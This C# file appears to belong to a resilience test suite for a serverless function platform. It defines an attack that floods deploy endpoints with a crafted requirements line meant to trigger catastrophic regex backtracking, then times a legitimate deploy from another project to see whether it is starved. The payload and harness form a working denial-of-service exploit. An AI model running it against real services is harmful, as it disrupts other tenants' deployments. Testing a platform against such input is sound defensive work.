using System.Diagnostics;
using System.Text;
using EdgeAttacks.Clients;

namespace EdgeAttacks.Attacks;

/// <summary>Source deploys whose requirements make a backtracking expression try for good, and a good one of another project behind them.</summary>
internal sealed class RequirementLines() : Attack(
    "requirements",
    "2. A line of requirements",
    "Uploads of functions, each to a project of its own, with the line `A>1 >1 … x` of 122 bytes as requirements; "
    + "a second later a good function of another project is deployed, which has 60 s.",
    size: 1)
{
    private const string Boundary = "edge-boundary";
    private const string FormType = $"multipart/form-data; boundary={Boundary}";
    private const string Code = """
        using CloudFunction;

        [Function("quick")]
        public sealed class Quick : IFunction<int, int>
        {
            public ValueTask<int> InvokeAsync(int request, FunctionContext context, CancellationToken cancellationToken) =>
                ValueTask.FromResult(request);
        }
        """;

    private static readonly string Line = $"A{string.Concat(Enumerable.Repeat(">1 ", 40))}x";
    private static readonly TimeSpan DeployDelay = TimeSpan.FromSeconds(1);
    private static readonly TimeSpan DeployLimit = TimeSpan.FromSeconds(60);

    // What is left of it after the deploy: enough calls to judge by.
    private static readonly TimeSpan Least = TimeSpan.FromSeconds(10);

    public override TimeSpan Window => DeployLimit + TimeSpan.FromSeconds(5);

    public override async Task RunAsync(AttackScene scene, CancellationToken cancellationToken)
    {
        var began = Stopwatch.GetTimestamp();
        await scene.ConnectAsync(
            async (connection, number, token) =>
            {
                var form = Form(Line);
                await connection.TrySendAsync(RawRequest.Post($"/api/v1/functions/lines-{number}/deploy", form.Length, FormType), token);
                await connection.TrySendAsync(form, token);
            },
            cancellationToken);
        await Task.Delay(DeployDelay, cancellationToken);
        scene.Besides = await DeployAsync(scene.Host.Uri, cancellationToken);
        var left = Least - Stopwatch.GetElapsedTime(began);
        await Task.Delay(left > TimeSpan.Zero ? left : TimeSpan.Zero, cancellationToken);
    }

    private static async Task<string> DeployAsync(Uri host, CancellationToken cancellationToken)
    {
        using var client = new HttpClient { Timeout = DeployLimit };
        using var content = new ByteArrayContent(Form(requirements: ""));
        content.Headers.TryAddWithoutValidation("Content-Type", FormType);
        var sent = Stopwatch.GetTimestamp();
        try
        {
            using var response = await client.PostAsync(new Uri(host, "/api/v1/functions/good/deploy"), content, cancellationToken);
            return $"deploy of another: {(int)response.StatusCode} after {Stopwatch.GetElapsedTime(sent).TotalSeconds:0.0} s";
        }
        catch (OperationCanceledException)
        {
            return $"deploy of another: no answer within {Stopwatch.GetElapsedTime(sent).TotalSeconds:0} s";
        }
        catch (HttpRequestException)
        {
            return "deploy of another: connection lost";
        }
    }

    private static byte[] Form(string requirements)
    {
        (string Name, string Value)[] fields = [("function_name", "quick"), ("code", Code), ("requirements", requirements)];
        var parts = fields
            .Where(field => field.Value.Length > 0)
            .Select(field => $"--{Boundary}\r\nContent-Disposition: form-data; name=\"{field.Name}\"\r\n\r\n{field.Value}\r\n");
        return Encoding.UTF8.GetBytes($"{string.Concat(parts)}--{Boundary}--\r\n");
    }
}
